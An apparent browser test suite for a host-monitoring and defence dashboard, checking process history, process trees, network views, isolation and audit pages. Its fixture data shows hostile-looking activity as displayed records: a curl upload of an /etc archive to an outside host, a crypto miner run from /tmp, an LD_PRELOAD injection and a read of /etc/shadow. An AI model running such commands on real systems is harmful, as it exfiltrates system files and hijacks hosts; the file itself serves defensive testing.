// SPDX-License-Identifier: Apache-2.0
//
// Called by tests/browser/run: a host whose processes have lives (lives.py), what was executed on it, one process with its tree, its
// detail and its records, while it lives and when it is over.
import assert from 'node:assert/strict';
import { createInterface } from 'node:readline';
import { launch, Walk } from './pages.mjs';
import { ownServer, start } from './server.mjs';

const { LOGS } = process.env;

const { port, url, data, command, log, server } = await ownServer('processes', ['viewer', 'operator', 'admin', 'auditor']);

const token = command(['token', 'create']).split('\n')[0].trim();
const lives = start('lives', 'python3', ['tests/browser/lives.py', String(port), data, token], log, 'pipe');
const said = createInterface({ input: lives.stdout })[Symbol.asyncIterator]();
const { id, uids } = JSON.parse((await said.next()).value);
/** How often the host was asked by now. */
const asked = async () => {
  lives.stdin.write('asked\n');
  return Number((await said.next()).value);
};
/** Asks again, after so long, until it is so. */
const until = async (isSo, every = 100) => {
  for (const end = Date.now() + 30_000; !(await isSo()); ) {
    if (Date.now() > end) throw new Error('it does not come to be so');
    await new Promise((r) => setTimeout(r, every));
  }
};
/** Has the host go on, until the server has what it says. */
const tell = async (word) => {
  lives.stdin.write(`${word}\n`);
  assert.equal((await said.next()).value, 'done');
};

const browser = await launch();
const walk = new Walk('processes', browser, url, { expected: [401] });
const { has, go, quiet, accessible } = walk;
const execs = `/hosts/${id}/processes`;
const at = (pid) => `${execs}/${encodeURIComponent(uids[pid])}`;
let page;

async function enter(user, path, options) {
  page = await walk.enter(user, path, options);
}

const shoot = (name) => page.screenshot({ path: `${LOGS}/processes-${name}.png` });
const commands = () => page.locator('tbody .exec-cmd').allTextContents();
const names = () => page.locator('.ptree-row .ptree-name').allTextContents();

await walk.test('from the host to what was executed on it', async () => {
  await enter('u-viewer', `/hosts/${id}`);
  await page.click('.page-do a:has-text("Processes")');
  await page.waitForSelector('tbody .exec-cmd');
  await has('Processes of web-07');
  assert.equal((await commands())[0], 'ls -l /srv/29');
  await accessible('what was executed');
});

await walk.test('words of the command line, fields, and what was denied', async () => {
  await page.fill('input[type=search]', 'mnt backup');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 3);
  assert.deepEqual(await commands(), [
    'curl -T /mnt/last-backup/etc.tar https://203.0.113.9/put',
    'tar --create --file /mnt/last-backup/etc.tar /etc',
    "python3 /srv/backup.py --to '/mnt/last backup'",
  ]);
  await has('exit code 22');
  await shoot('history');
  await page.fill('input[type=search]', 'user:www-data worker');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.chip:has-text("www-data")');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 4);
  await page.click('.chip:has-text("www-data")');
  await page.click('button:has-text("Clear filters")');
  await page.click('text=only what was denied');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
  assert.deepEqual(await commands(), ['/tmp/.x/miner --pool 203.0.113.66']);
  await has('not allowed');
  await has('no programs in /tmp');
  await page.fill('input[type=search]', 'nowhere-at-all');
  await page.keyboard.press('Enter');
  await has('Nothing was executed that matches');
  // The way back is the browser's own.
  await page.goBack();
  await page.waitForSelector('tbody tr');
});

await walk.test('a process: its tree, by keys', async () => {
  await go(at(2401), '.ptree-self');
  await quiet();
  // So many brothers are not asked for.
  assert.ok(!(await names()).includes('vim.basic'));
  await page.check('label:has-text("Show siblings") input');
  const before = await names();
  assert.deepEqual(before.slice(0, 5), ['systemd', 'sshd', 'sshd', 'bash', 'python3.11']);
  assert.ok(before.includes('tar') && before.includes('curl') && before.includes('vim.basic'));
  assert.equal(await page.locator('.ptree-denied .ptree-denials').first().textContent(), '1 denial');
  assert.equal(await page.locator('.ptree-denied:has(.ptree-name:has-text("tar")) .ptree-denials').textContent(), '3 denials');
  await page.focus('.ptree-self');
  await page.keyboard.press('ArrowLeft');
  await page.waitForSelector('.ptree-self[aria-expanded=false]');
  assert.ok(!(await names()).includes('tar'));
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  assert.equal(await page.evaluate(() => document.activeElement.querySelector('.ptree-name').textContent), 'tar');
  await page.uncheck('label:has-text("Show siblings") input');
  await page.waitForFunction(() => ![...document.querySelectorAll('.ptree-name')].some((e) => e.textContent === 'vim.basic'));
  await accessible('a process');
  await page.focus('.ptree-self');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("tar")');
  await has('exit code 2');
});

await walk.test('a process: all that its record says', async () => {
  await go(at(2401), '.ptree-self');
  await quiet();
  await shoot('process');
  const facts = await page.innerText('.facts-wide');
  for (const text of ['/srv/backup.py', "python3 /srv/backup.py --to '/mnt/last backup'", '/srv/www', 'LD_PRELOAD=/tmp/x.so', '10.0.0.9:4444 → 198.51.100.7:51515', '5c5c5c5c', 'backup 2',
    'terminal /dev/pts/3', 'CAP_DAC_READ_SEARCH CAP_NET_RAW', 'net 4026532222', 'with more privileges than who started it', '00070e151c23', 'python3.11-minimal 3.11.2-6+deb12u3',
    'ssh 3', 'from the network', uids[2401]])
    assert.ok(facts.includes(text), `${text} is not in ${facts}`);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.click('.fact:has(dt:text-is("Command line")) .copy-value');
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "python3 /srv/backup.py --to '/mnt/last backup'");
});

await walk.test('a process: its records, and from a record to its process', async () => {
  await go(at(2402), '.rows-box .row-denied');
  await page.click('.rows-box .row-denied .row-open');
  await page.waitForSelector('dialog .tree-actor');
  await page.click('dialog .tree-ancestor a:has-text("python3.11")');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("python3.11")');
  await go(at(2402), '.rows-box .row-denied');
  await page.click('text=Search in them');
  await page.waitForSelector('.chip:has-text("process")');
  await page.waitForSelector('.rows-box .row-denied');
  const paths = await page.locator('.rows-box .row-denied .row-what').allTextContents();
  assert.equal(paths.length, 1);
  assert.match(paths[0], /etc\/shadow/);
});

await walk.test('what runs now, and it ends while somebody looks', async () => {
  await go(`${execs}?view=running`, '.ptree-row');
  const running = await names();
  assert.ok(running.includes('vim.basic') && running.includes('systemd'), `${running}`);
  assert.ok(!running.includes('curl') && !running.includes('ls'), `${running}`);
  await accessible('what runs');
  await shoot('running');
  await go(at(2450), '.facts-wide .state:has-text("runs")');
  await tell('end');
  await page.waitForSelector('.facts-wide .state:has-text("ended")', { timeout: 25_000 });
  await go(execs, 'tbody .exec-cmd');
  await tell('more');
  await page.waitForSelector('tbody .exec-cmd:has-text("less /var/log/backup.log")', { timeout: 25_000 });
});

await walk.test('one click from the host to its live tree, which goes on by itself', async () => {
  await go(`/hosts/${id}`, '.page-do');
  await page.click('.page-do a:has-text("Live tree")');
  await page.waitForSelector('.ptree-row');
  await has('The host answered');
  const running = await names();
  assert.ok(running.includes('systemd') && running.includes('bash') && running.includes('python3.11'), `${running}`);
  // What has ended is not there, and threads of the kernel only when they are asked for.
  assert.ok(!running.includes('curl') && !running.includes('kthreadd'), `${running}`);
  await page.check('label:has-text("Kernel threads") input');
  await page.waitForSelector('.ptree-name:has-text("kthreadd")');
  await shoot('live');
  await accessible('the live tree');
  await tell('more');
  await page.waitForSelector('.ptree-cmd:has-text("less /var/log/backup.log")', { timeout: 15_000 });
});

await walk.test('the live tree is searched, with what is above what was found', async () => {
  await page.fill('input[type=search]', 'backup.py');
  await page.keyboard.press('Enter');
  await has('1 of ');
  assert.deepEqual(await names(), ['systemd', 'sshd', 'sshd', 'bash', 'python3.11']);
  await page.fill('input[type=search]', 'no such thing');
  await page.keyboard.press('Enter');
  await has('No process matches');
});

await walk.test('what is typed as soon as a search has found stays in the box', async () => {
  await page.evaluate(() => {
    const box = document.querySelector('input[type=search]');
    const seen = new MutationObserver(() => {
      if (!document.body.textContent.includes('1 of ')) return;
      seen.disconnect();
      box.value = 'no such thing';
      box.dispatchEvent(new InputEvent('input', { bubbles: true }));
    });
    seen.observe(document.body, { childList: true, subtree: true, characterData: true });
  });
  await page.fill('input[type=search]', 'backup.py');
  await page.keyboard.press('Enter');
  await has('1 of ');
  // What runs after the page is drawn has run when two frames and what they left to do are over.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 200)))));
  assert.equal(await page.inputValue('input[type=search]'), 'no such thing');
  await page.keyboard.press('Enter');
  await has('No process matches');
});

await walk.test('one click from the page of a process to where it is in the live tree', async () => {
  await go(at(2401), '.ptree-self');
  await page.click('.page-do a:has-text("Live tree")');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("python3.11")');
  await has('The host answered');
  await go(at(2402), '.ptree-self');
  await page.click('.page-do a:has-text("Live tree")');
  await has('This process does not run any more');
});

await walk.test('how processes are scheduled: sorted, searched, with the rules', async () => {
  await go(`/hosts/${id}/scheduling`, '.histogram');
  const first = () => page.locator('.sched-table tbody tr').first().innerText();
  await page.click('th button:has-text("Wait %")');
  await page.waitForFunction(() => document.querySelector('.sched-table tbody tr').textContent.includes('sshd'));
  assert.match(await first(), /81\.2/);
  await page.click('th button:has-text("Wait %")');
  await page.waitForFunction(() => document.querySelector('.sched-table tbody tr').textContent.includes('systemd'));
  await page.click('th button:has-text("Max")');
  await page.waitForFunction(() => document.querySelector('.sched-table tbody tr').textContent.includes('7.3 ms'));
  await page.fill('input[type=search]', 'worker');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelectorAll('.sched-table tbody tr').length === 4);
  assert.equal(await page.locator('.histogram tbody tr').count(), 4);
  const rules = await page.innerText('section:has(h2:text-is("Rules that schedule"))');
  for (const text of ['70-batch.yaml:12', 'weight: 20, quota: 250%', 'cpu.weight, cpu.max of /system.slice/batch.service', 'cpuset.cpus of a threaded group safeguard-9f2c1d7e0b3a4455',
    'nice, class of all threads', 'the controller cpu is not on in /system.slice', 'name the group in the rule', '4 held at their exec, 6 scheduled, 1 failed'])
    assert.ok(rules.includes(text), `${text} is not in ${rules}`);
  await shoot('scheduling');
  await accessible('scheduling');
  await page.click('.sched-table tbody a >> nth=0');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("nginx")');
});

await walk.test('who talks to whom: connections, the map, names, drops', async () => {
  await go(`/network?host=${id}`, '.net-table tbody tr');
  const table = () => page.innerText('.net-table');
  await page.waitForFunction(() => /KiB\/s|MiB\/s/.test(document.querySelector('.net-table').textContent));
  for (const text of ['[::]:443', 'listens', '10.0.0.12:8080', 'app.internal', '11 ms', '[2001:db8::9]:5432', 'refused']) assert.ok((await table()).includes(text), `${text} is not in ${await table()}`);
  await page.fill('section input[type=search]', 'refused 5432');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelectorAll('.net-table tbody tr').length === 1);
  await page.waitForSelector('.rows-box .row:has-text("api.example.net")');
  await shoot('network');
  await accessible('connections');
  await page.click('button:text-is("Map")');
  await page.waitForSelector('.net-node:text-is("nginx")');
  assert.equal(await page.locator('tbody tr').count(), 2);
  await page.click('.net-node:text-is("postgres")');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
  assert.match(await page.innerText('tbody'), /backup/);
  await shoot('network-map');
  await accessible('the map');
  await page.click('button:text-is("DNS")');
  await page.waitForSelector('tbody tr:has-text("silent.internal"):has-text("no answer")');
  await page.waitForSelector('.rows-box .row:has-text("asked")');
  await page.click('button:text-is("Drops")');
  await page.waitForSelector('tbody tr:has-text("NO_SOCKET"):has-text("4,242")');
  await accessible('drops');
});

await walk.test('records of connections are found by address, port and name', async () => {
  for (const [query, n] of [['address=198.51.100.7', 1], ['address=127.0.0.53', 1], ['port=8443', 1], ['domain=api.example.net', 2], ['domain=api.example.net&class=4003', 1], ['address=198.51.100.8', 0]]) {
    await go(`/records?${query}`, n ? '.rows-box .row' : '.empty');
    assert.equal(await page.locator('.rows-box .row').count(), n, query);
  }
});

await walk.test('a host is asked while somebody looks, and not when nobody does', async () => {
  await go(`/hosts/${id}/scheduling`, '.histogram');
  const before = await asked();
  await until(async () => (await asked()) >= before + 2);
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => window.__seen ?? 'hidden' });
    document.dispatchEvent(new Event('visibilitychange'));
  });
  // One may be on its way.
  let n = -1;
  await until(async () => n === (n = await asked()), 3000);
  await page.evaluate(() => {
    window.__seen = 'visible';
    document.dispatchEvent(new Event('visibilitychange'));
  });
  await until(async () => (await asked()) > n);
  await page.click('button:has-text("Pause")');
  await has('paused');
  n = -1;
  await until(async () => n === (n = await asked()), 3000);
  await page.click('button:has-text("Ask again")');
  await until(async () => (await asked()) === n + 1);
  await page.click('button:has-text("Go on")');
  await until(async () => (await asked()) > n + 2);
});

await walk.test('the defence: who only looks sees it, and what was tried', async () => {
  await go(`/hosts/${id}`, '.defence-state .state:has-text("on")');
  for (const text of ['Canary', '1 of 1 proved', '1 with nothing to test', '1 not in this kernel', '2 since the agent started', 'there is one', "refused: a signal to the agent (9), by process 2310 'bash'"]) await has(text);
  assert.equal(await page.locator('button:has-text("Unlock")').count(), 0);
  await page.click('text=All records of it');
  await page.waitForSelector('.rows-box .row');
  assert.equal(await page.locator('.rows-box .row').count(), 1);
  await go('/hosts', 'tbody .state:has-text("on")');
});

await walk.test('an operator opens a window, with a reason and for a time, and closes it', async () => {
  await enter('u-operator', `/hosts/${id}`);
  await page.waitForSelector('.defence-state .state:has-text("on")');
  await page.click('button:has-text("Unlock…")');
  await page.waitForSelector('dialog[open]');
  assert.ok(await page.isDisabled('dialog button[type=submit]'));
  await page.selectOption('dialog select', '30');
  await page.fill('dialog input', 'kernel \u202eetadpu');
  await accessible('opening a window');
  await page.click('dialog button[type=submit]');
  await page.waitForSelector('.defence-unlocked .state:has-text("unlocked")');
  await has('29 min');
  await page.waitForSelector('.defence-state .odd');
  await shoot('defence');
  await accessible('an open window');
  await page.waitForSelector('td:has-text("Unlock")');
  await go('/hosts', 'tbody .state:has-text("unlocked")');
  await go(`/hosts/${id}`, 'button:has-text("Lock now")');
  await page.click('button:has-text("Lock now")');
  await page.waitForSelector('.defence-state .state:has-text("on")');
});

await walk.test('an operator cuts the host off, with what stays reachable, and takes it back', async () => {
  await go(`/hosts/${id}`, '.isolation-state .state:has-text("not isolated")');
  await page.click('button:has-text("Isolate…")');
  await page.waitForSelector('dialog[open]');
  assert.ok(await page.isDisabled('dialog button[type=submit]'));
  await page.selectOption('dialog select', '8');
  await page.fill('dialog textarea', '10.0.0.5:22\n[fd00::1]:443');
  await page.fill('dialog input', 'it talks too much');
  await accessible('cutting a host off');
  await shoot('isolate');
  await page.click('dialog button[type=submit]');
  await page.waitForSelector('.isolation-on .state:has-text("isolated")');
  for (const text of ['it talks too much', '10.0.0.5:22', '[fd00::1]:443']) await has(text);
  await shoot('isolated');
  await accessible('a host that is cut off');
  await page.click('button:has-text("End isolation")');
  await page.waitForSelector('.isolation-off .state:has-text("not isolated")');
});

await walk.test('the audit trail says who opened it, for how long and why', async () => {
  await enter('u-auditor', '/audit');
  const row = page.locator('tbody tr:has-text("command.create"):has-text("unlock")');
  await row.first().waitFor();
  assert.equal(await row.count(), 1);
  const text = await row.innerText();
  for (const part of ['u-operator', '1800000', 'kernel']) assert.ok(text.includes(part), `${part} is not in ${text}`);
});

await walk.test('in Chinese, dark, on a phone: what the host answers', async () => {
  await enter('u-viewer', `/hosts/${id}/scheduling`, { viewport: { width: 390, height: 844 }, hasTouch: true, locale: 'zh-CN', colorScheme: 'dark' });
  await page.waitForSelector('.histogram');
  await page.selectOption('.sort-choice select', 'wait');
  await page.waitForFunction(() => document.querySelector('.sched-table tbody tr').textContent.includes('sshd'));
  for (const [path, selector] of [['scheduling', '.histogram'], ['processes?view=live', '.ptree-row'], ['', '.defence-state']]) {
    await go(`/hosts/${id}/${path}`.replace(/\/$/, ''), selector);
    await quiet();
    await shoot(`phone-${path.split('?')[0] || 'defence'}`);
    await accessible(`${path}, on a phone`);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), 0, path);
  }
});

await walk.test('a host that is away is said to be, with what it answered last', async () => {
  await enter('u-viewer', `/hosts/${id}/processes?view=live`);
  await page.waitForSelector('.ptree-row');
  await tell('silence');
  await page.waitForSelector('text=The host is not connected', { timeout: 30_000 });
  await has('What is shown is what it answered');
  assert.ok((await names()).includes('systemd'));
  await shoot('away');
  await accessible('the live tree of a host that is away');
  await go(`/hosts/${id}`, 'text=whether it defends itself is not known now');
});

await walk.test('a process that nobody tells of', async () => {
  walk.expected.push(404);
  await go(`${execs}/nobody`, '.empty');
  await has('No record tells of this process');
});

await walk.test('an admin, who may not look at records, does not see them', async () => {
  await enter('u-admin', `/hosts/${id}`);
  await page.waitForSelector('.facts-wide');
  assert.equal(await page.locator('.page-do a:has-text("Processes")').count(), 0);
  await go(execs, 'main h1');
  await has('There is no page here');
});

await walk.test('in Chinese, dark, on a phone', async () => {
  await enter('u-viewer', execs, { viewport: { width: 390, height: 844 }, hasTouch: true, locale: 'zh-CN', colorScheme: 'dark' });
  await page.waitForSelector('tbody .exec-cmd');
  await quiet();
  await shoot('history-phone');
  await accessible('what was executed, on a phone');
  await go(at(2401), '.ptree-self');
  await has('标准输入');
  await quiet();
  await shoot('process-phone');
  await accessible('a process, on a phone');
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.equal(wide, 0);
});

await browser.close();
lives.stdin.end();
server.kill();
process.exit(walk.end());
